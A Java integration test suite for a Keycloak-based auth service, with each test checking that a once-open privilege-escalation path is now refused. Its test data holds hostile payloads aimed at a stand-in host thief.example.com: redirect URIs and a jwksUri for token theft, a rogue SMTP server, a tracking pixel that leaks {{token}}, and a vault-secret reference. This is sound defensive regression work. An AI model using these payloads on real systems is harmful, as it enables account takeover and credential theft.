package dev.banata.keycloak.strength;

import static dev.banata.keycloak.api.AnswerAssert.assertAnswer;
import static dev.banata.keycloak.strength.RealmAdmins.REALM_ADMIN;
import static dev.banata.keycloak.strength.RealmAdmins.REALM_MANAGEMENT;
import static dev.banata.keycloak.strength.RealmAdmins.assertRefused;
import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import dev.banata.keycloak.api.AdminRest;
import dev.banata.keycloak.api.TestKey;
import dev.banata.keycloak.api.TestProject;
import dev.banata.keycloak.api.TestProjects;
import dev.banata.keycloak.server.Http;
import dev.banata.keycloak.server.Http.Answer;
import dev.banata.keycloak.server.ServerExtension;
import dev.banata.keycloak.server.TestServer;
import java.time.Duration;
import java.time.Instant;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.extension.ExtendWith;

/**
 * Ways in to more than the caller has that once were open, a test for each as it was found. Run
 * with {@code -Dbanata.test.jar} of an older build to see them.
 */
@Tag("diagonal")
@ExtendWith(ServerExtension.class)
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
final class WaysInIT {

  private static final String ESCALATION = "PERMISSION_ESCALATION";
  private static final String DENIED = "PERMISSION_DENIED";
  private static final String KEYS = "/api/auth/api-key/";
  private static final String CONFIG = "/api/auth/banata/config/";
  private static final String CALLBACK = "https://app.example.com/callback";
  private static final String STOLEN = "https://thief.example.com/callback";

  private TestProjects projects;
  private TestProject project;
  private AdminRest rest;
  private RealmAdmins admins;

  @BeforeAll
  void connect(TestServer server) {
    projects = new TestProjects(server);
  }

  @BeforeEach
  void newProject() {
    project = projects.create();
    rest = project.adminRest();
    admins = new RealmAdmins(project);
  }

  private TestKey key(String... permissions) {
    return project.newKey(Map.of("permissions", List.of(permissions)));
  }

  private Http with(String... permissions) {
    return project.as(key(permissions));
  }

  private Http exchanged(TestKey key) {
    return projects
        .anonymous()
        .bearer(project.exchange(key.text()).expect(200).json().get("access_token").asText());
  }

  private JsonNode permissionsOf(TestKey key) {
    return project.http().get(KEYS + "get?id=" + key.id()).expect(200).json().get("permissions");
  }

  private JsonNode role(String slug, String... permissions) {
    return project
        .http()
        .post(
            CONFIG + "roles/create",
            Map.of("name", "Role", "slug", slug, "permissions", List.of(permissions)))
        .expect(200)
        .json()
        .get("role");
  }

  /** So that {@code project.*} gives something. */
  private void addProjectPermission() {
    project
        .http()
        .post(CONFIG + "permissions/create", Map.of("name", "Report", "slug", "project.report"))
        .expect(200);
  }

  private String user() {
    return project.newUser().get("id").asText();
  }

  private boolean isAdministrator(String userId) {
    return rest.get(
            "/users/"
                + userId
                + "/role-mappings/clients/"
                + rest.idOfClient(REALM_MANAGEMENT)
                + "/composite")
        .expect(200)
        .json()
        .findValuesAsText("name")
        .contains(REALM_ADMIN);
  }

  /** Renames a permission in the console's way. */
  private Answer rename(AdminRest admin, String permission, String name) {
    ObjectNode role = rest.clientRole("banata", permission).deepCopy();
    role.put("name", name);
    return admin.put("/clients/" + rest.idOfClient("banata") + "/roles/" + permission, role);
  }

  @Test
  void b1_renamingAPermissionInTheConsoleMakesNoKeyStronger() {
    TestKey key = key("token.check");
    AdminRest admin = admins.with("manage-clients");

    Answer renamed = rename(admin, "token.check", "*");

    assertThat(permissionsOf(key).toString()).as("after " + renamed).isEqualTo("[\"token.check\"]");
    project.exchange(key.text()).expect(400);
    assertRefused(renamed);
  }

  @Test
  void b1_renamingAPermissionInTheConsoleMakesNoMemberStronger() {
    project
        .http()
        .post(CONFIG + "permissions/create", Map.of("name", "Do", "slug", "tools.use"))
        .expect(200);
    JsonNode role = role("worker", "tools.use");
    AdminRest admin = admins.with("manage-clients");

    Answer renamed = rename(admin, "tools.use", "billing.*");

    assertThat(
            rest.get("/roles-by-id/" + role.get("id").asText() + "/composites")
                .expect(200)
                .json()
                .findValuesAsText("name"))
        .as("after " + renamed)
        .containsExactly("tools.use");
    assertRefused(renamed);
  }

  /** A client of the console with a service account that is realm-admin; returns its id. */
  private String managingClient(String clientId) {
    String id = client(clientId, Map.of("serviceAccountsEnabled", true, "fullScopeAllowed", true));
    String account =
        rest.get("/clients/" + id + "/service-account-user").expect(200).json().get("id").asText();
    rest.grantClientRole(account, REALM_MANAGEMENT, REALM_ADMIN);
    return id;
  }

  private String client(String clientId, Map<String, Object> more) {
    Map<String, Object> client = new HashMap<>(more);
    client.put("clientId", clientId);
    client.put("publicClient", false);
    client.put("redirectUris", List.of(CALLBACK));
    return rest.createClient(client);
  }

  @Test
  void b2_aKeyOfClientsDoesNotReadTheSecretOfAManagingClient() {
    String id = managingClient("deploy");
    JsonNode secret = rest.get("/clients/" + id + "/client-secret").expect(200).json();

    Answer rotated =
        with("client.manage")
            .post(
                "/api/auth/banata/clients/rotate-secret",
                Map.of("id", "deploy", "overlapSeconds", 3600));

    assertAnswer(rotated).isRefused(403, ESCALATION);
    assertThat(rest.get("/clients/" + id + "/client-secret").expect(200).json()).isEqualTo(secret);
  }

  @Test
  void b2_aKeyOfClientsDoesNotGiveAManagingClientItsOwnKeys() {
    String id = managingClient("deploy");
    JsonNode before = Snapshots.sorted(rest.get("/clients/" + id).expect(200).json());

    Answer updated =
        with("client.manage")
            .post(
                "/api/auth/banata/clients/update",
                Map.of(
                    "id",
                    "deploy",
                    "clientAuthentication",
                    "private_key_jwt",
                    "jwksUri",
                    "https://thief.example.com/jwks.json"));

    assertAnswer(updated).isRefused(403, ESCALATION);
    assertThat(Snapshots.sorted(rest.get("/clients/" + id).expect(200).json())).isEqualTo(before);
  }

  @Test
  void b2_aKeyOfClientsDoesNotRedirectTheTokensOfAdministrators() {
    String id = client("portal", Map.of("fullScopeAllowed", true));

    Answer updated =
        with("client.manage")
            .post(
                "/api/auth/banata/clients/update",
                Map.of("id", "portal", "redirectUris", List.of(STOLEN)));

    assertAnswer(updated).isRefused(403, ESCALATION);
    assertThat(rest.get("/clients/" + id).expect(200).json().get("redirectUris").toString())
        .isEqualTo("[\"" + CALLBACK + "\"]");
  }

  @Test
  void b2_aKeyOfSettingsDoesNotRedirectTheTokensOfAdministrators() {
    String id = client(project.slug(), Map.of("fullScopeAllowed", true));

    Answer saved =
        with("dashboard.manage")
            .post(
                CONFIG + "redirects/save",
                Map.of("config", Map.of("redirectUris", List.of(STOLEN))));

    assertAnswer(saved).isRefused(403, ESCALATION);
    assertThat(rest.get("/clients/" + id).expect(200).json().get("redirectUris").toString())
        .isEqualTo("[\"" + CALLBACK + "\"]");
  }

  @Test
  void b3_aRoleThatTheConsoleMadeStrongerIsNotHandedOut() {
    role("ops", "user.read");
    rest.post("/roles/ops/composites", List.of(rest.clientRole(REALM_MANAGEMENT, REALM_ADMIN)))
        .expect(204);
    String user = user();

    Answer set =
        with("user.read", "user.manage")
            .post("/api/auth/admin/set-role", Map.of("userId", user, "role", "ops"));

    assertAnswer(set).isRefused(403, ESCALATION);
    assertThat(isAdministrator(user)).isFalse();
  }

  @Test
  void b4_noKeyWithoutProjectDeleteMakesOneThatHasIt() {
    addProjectPermission();
    Map<String, Object> wanted =
        Map.of("name", "child", "permissions", List.of("api_key.create", "project.delete"));

    assertAnswer(project.http().post(KEYS + "create", wanted)).isRefused(403, ESCALATION);
    assertAnswer(with("api_key.create", "project.*").post(KEYS + "create", wanted))
        .isRefused(403, ESCALATION);
  }

  @Test
  void b4_noKeyWithoutProjectDeleteGivesItToItself() {
    addProjectPermission();
    for (TestKey key : List.of(project.fullKey(), key("api_key.create", "project.*"))) {
      Answer updated =
          project
              .as(key)
              .post(
                  KEYS + "update",
                  Map.of(
                      "keyId",
                      key.id(),
                      "permissions",
                      List.of("api_key.create", "project.*", "project.delete")));

      assertAnswer(updated).isRefused(403, ESCALATION);
      assertAnswer(
              project.as(key).post("/api/auth/banata/projects/delete", Map.of("id", project.id())))
          .isRefused(403, DENIED);
    }
    rest.get("").expect(200);
  }

  @Test
  void b5_aKeyOfEmailsDoesNotDecideWhereLinksToNewPasswordsGo() {
    Map<String, Object> smtp =
        Map.of("enabled", true, "host", "smtp.thief.example.com", "port", 587);

    Answer saved =
        with("email.manage")
            .post(
                CONFIG + "email-providers/save",
                Map.of("providers", Map.of("smtp", smtp), "from", "hello@example.org"));

    assertAnswer(saved).isRefused(403, ESCALATION);
    assertThat(rest.get("").expect(200).json().at("/smtpServer/host").asText()).isEmpty();
  }

  @Test
  void b5_aKeyOfEmailsDoesNotPutAPictureWithTheTokenIntoAMail() {
    Http key = with("email.manage");
    JsonNode before =
        key.post("/api/auth/banata/emails/templates/get", Map.of("idOrSlug", "password-reset"))
            .expect(200)
            .json();
    String blocks =
        "[{\"id\":\"1\",\"type\":\"image\","
            + "\"src\":\"https://thief.example.com/pixel.png?t={{token}}\",\"alt\":\"x\"}]";

    Answer updated =
        key.post(
            "/api/auth/banata/emails/templates/update",
            Map.of("id", before.at("/template/id").asText(), "blocksJson", blocks));

    assertAnswer(updated).isRefused(403, ESCALATION);
    assertThat(
            key.post("/api/auth/banata/emails/templates/get", Map.of("idOrSlug", "password-reset"))
                .expect(200)
                .json())
        .isEqualTo(before);
  }

  @Test
  void b6_anotherSecretOfTheVaultIsNoPassword() {
    Map<String, Object> request =
        Map.of(
            "providers",
            Map.of(
                "smtp",
                Map.of(
                    "enabled",
                    true,
                    "host",
                    "smtp.thief.example.com",
                    "port",
                    587,
                    "username",
                    "thief",
                    "password",
                    "${vault.ldapbind}")),
            "from",
            "hello@example.org");

    assertAnswer(with("email.manage").post(CONFIG + "email-providers/save", request))
        .isRefused(403, ESCALATION);
    assertAnswer(project.http().post(CONFIG + "email-providers/save", request))
        .isInvalid("providers.smtp.password");
    assertAnswer(
            admins
                .with("manage-realm")
                .http()
                .post(admins.api("banata/config/email-providers/save"), request))
        .isInvalid("providers.smtp.password");
    assertThat(rest.get("").expect(200).json().at("/smtpServer/password").asText()).isEmpty();
  }

  /** A key that ends in an hour, with a tight rate limit. */
  private TestKey limited(String... permissions) {
    return project.newKey(
        Map.of(
            "permissions",
            List.of(permissions),
            "expiresAt",
            Instant.now().plus(Duration.ofHours(1)).toString(),
            "rateLimitMax",
            100,
            "rateLimitTimeWindow",
            60_000));
  }

  @Test
  void b7_aKeyDoesNotOutliveItselfNorRaiseItsRateLimit() {
    TestKey key = limited("api_key.create", "user.read");
    JsonNode before = project.http().get(KEYS + "get?id=" + key.id()).expect(200).json();
    Map<String, Object> noEnd = new HashMap<>();
    noEnd.put("expiresAt", null);
    List<Map<String, Object>> wanted =
        List.of(
            noEnd,
            Map.of("expiresAt", Instant.now().plus(Duration.ofDays(1)).toString()),
            Map.of("expiresIn", 86_400),
            Map.of("rateLimitEnabled", false),
            Map.of("rateLimitMax", 101),
            Map.of("rateLimitTimeWindow", 1000));

    for (Map<String, Object> change : wanted) {
      Map<String, Object> request = new HashMap<>(change);
      request.put("keyId", key.id());
      assertAnswer(project.as(key).post(KEYS + "update", request))
          .as(change.toString())
          .isRefused(403, ESCALATION);
    }
    JsonNode after = project.http().get(KEYS + "get?id=" + key.id()).expect(200).json();
    for (String field : List.of("expiresAt", "rateLimitEnabled", "rateLimitMax")) {
      assertThat(after.get(field)).isEqualTo(before.get(field));
    }
  }

  @Test
  void b7_aKeyMakesNoneThatOutlivesItOrMayCallMore() {
    Http key = project.as(limited("api_key.create", "user.read"));
    String sooner = Instant.now().plus(Duration.ofMinutes(30)).toString();
    String later = Instant.now().plus(Duration.ofDays(1)).toString();

    assertAnswer(key.post(KEYS + "create", child(Map.of()))).isRefused(403, ESCALATION);
    assertAnswer(key.post(KEYS + "create", child(Map.of("expiresAt", later))))
        .isRefused(403, ESCALATION);
    assertAnswer(key.post(KEYS + "create", child(Map.of("expiresAt", sooner, "rateLimitMax", 101))))
        .isRefused(403, ESCALATION);
    assertAnswer(
            key.post(
                KEYS + "create", child(Map.of("expiresAt", sooner, "rateLimitEnabled", false))))
        .isRefused(403, ESCALATION);
    Answer made = key.post(KEYS + "create", child(Map.of("expiresAt", sooner)));
    assertAnswer(made).isOk();
    assertThat(made.json().get("rateLimitMax").asInt()).isEqualTo(100);
  }

  private static Map<String, Object> child(Map<String, Object> more) {
    Map<String, Object> child = new HashMap<>(more);
    child.put("name", "child");
    child.put("permissions", List.of("user.read"));
    return child;
  }

  @Test
  void b7_aKeyGetsNoSecretOfOneThatOutlivesItOrMayCallMore() {
    Http key = project.as(limited("api_key.create", "user.read"));
    TestKey endless = project.newKey(Map.of("permissions", List.of("user.read")));
    TestKey faster =
        project.newKey(
            Map.of(
                "permissions",
                List.of("user.read"),
                "expiresAt",
                Instant.now().plus(Duration.ofMinutes(30)).toString(),
                "rateLimitMax",
                101));

    for (TestKey other : List.of(endless, faster)) {
      assertAnswer(key.post(KEYS + "rotate", Map.of("keyId", other.id())))
          .isRefused(403, ESCALATION);
      project.as(other).post("/api/auth/admin/list-users", Map.of()).expect(200);
    }
  }

  /** Each by its name, without the one that no full access includes. */
  private String[] allSlugs() {
    return project
        .http()
        .post(CONFIG + "permissions/list", Map.of())
        .expect(200)
        .json()
        .get("permissions")
        .findValuesAsText("slug")
        .stream()
        .filter(slug -> !slug.equals("project.delete"))
        .toArray(String[]::new);
  }

  @Test
  void b7_whoMayChangeRolesOfMembersGivesNoneWithAllPermissions() {
    role("everything", allSlugs());
    String organization = rest.createOrganization(TestProjects.unique("acme"));
    String user = user();
    project
        .http()
        .post(
            "/api/auth/organization/add-member",
            Map.of("organizationId", organization, "userId", user))
        .expect(200);

    for (String role : List.of("everything", "super_admin")) {
      assertAnswer(
              with("member.update_role")
                  .post(
                      "/api/auth/organization/update-member-role",
                      Map.of(
                          "organizationId", organization, "memberIdOrUserId", user, "role", role)))
          .isRefused(403, ESCALATION);
    }
  }

  @Test
  void b8_anExchangedKeyReadsNothingThatItsPermissionsDoNot() {
    Http token = exchanged(key("dashboard.read", "sso.read"));

    for (String path : List.of("/roles", "/users", "/clients", "/events", "/groups")) {
      token.get(rest.path(path)).expect(403);
    }
  }

  @Test
  void b8_anExchangedKeyOfUsersHandsOutNoRoleAndEndsNoSession() {
    TestKey key = key("user.read", "user.manage");
    Http token = exchanged(key);
    String user = user();
    String session = project.newSession(user);

    token.get(rest.path("/users")).expect(200);
    Answer mapped =
        token.post(
            rest.path("/users/" + user + "/role-mappings/realm"),
            List.of(rest.get("/roles/super_admin").expect(200).json()));
    Answer loggedOut = token.post(rest.path("/users/" + user + "/logout"), Map.of());

    assertThat(mapped.status()).as(mapped.toString()).isEqualTo(403);
    assertThat(loggedOut.status()).as(loggedOut.toString()).isEqualTo(403);
    assertThat(
            rest.get("/users/" + user + "/role-mappings/realm")
                .expect(200)
                .json()
                .findValuesAsText("name"))
        .doesNotContain("super_admin");
    assertThat(
            project
                .http()
                .post("/api/auth/admin/list-user-sessions", Map.of("userId", user))
                .expect(200)
                .json()
                .get("sessions")
                .findValuesAsText("id"))
        .contains(session);
  }

  @Test
  void b8_anExchangedTokenCountsOnTheRateLimitOfItsKey() {
    Http token =
        exchanged(
            project.newKey(
                Map.of(
                    "permissions",
                    List.of("user.read"),
                    "rateLimitMax",
                    5,
                    "rateLimitTimeWindow",
                    600_000)));
    for (int call = 0; call < 4; call++) {
      token.get(rest.path("/users/count")).expect(200);
    }

    Answer tooMuch = token.get(rest.path("/users/count"));

    assertThat(tooMuch.status()).as(tooMuch.toString()).isEqualTo(429);
    assertThat(Integer.parseInt(tooMuch.header("Retry-After"))).isBetween(1, 600);
  }

  @Test
  void b8_anExchangedTokenEndsWithTheSecretThatItIsOf() {
    TestKey key = key("user.read");
    Http token = exchanged(key);
    token.get(rest.path("/users/count")).expect(200);

    project.http().post(KEYS + "rotate", Map.of("keyId", key.id())).expect(200);

    assertThat(token.get(rest.path("/users/count")).status()).isEqualTo(401);
  }

  @Test
  void b8_anExchangedTokenIsWorthNothingInADisabledProject() {
    Http token = exchanged(project.fullKey());
    token.get(rest.path("/users/count")).expect(200);
    rest.update(Map.of("enabled", false)).expect(204);

    Answer read = token.get(rest.path("/users/count"));
    Answer enabled = token.send("PUT", rest.path(""), Map.of("enabled", true));

    assertThat(read.status()).as(read.toString()).isBetween(400, 403);
    assertThat(enabled.status()).as(enabled.toString()).isBetween(400, 403);
    assertThat(rest.get("").expect(200).json().get("enabled").asBoolean()).isFalse();
  }

  @Test
  void b9_whoMayNotListUsersAtKeycloakDoesNotListThemHere() {
    AdminRest admin = admins.with("view-realm");
    admin.get("/users").expect(403);

    Answer listed = admin.http().post(admins.api("admin/list-users"), Map.of());

    assertAnswer(listed).isRefused(403, DENIED);
  }

  @Test
  void b9_whoMaySetNoPasswordAtKeycloakSetsNoneHere() {
    AdminRest admin = admins.with("manage-realm");
    String user = user();
    admin
        .put("/users/" + user + "/reset-password", Map.of("type", "password", "value", "new one"))
        .expect(403);

    Answer set =
        admin
            .http()
            .post(
                admins.api("admin/set-user-password"),
                Map.of("userId", user, "newPassword", "another long one"));

    assertAnswer(set).isRefused(403, DENIED);
  }
}
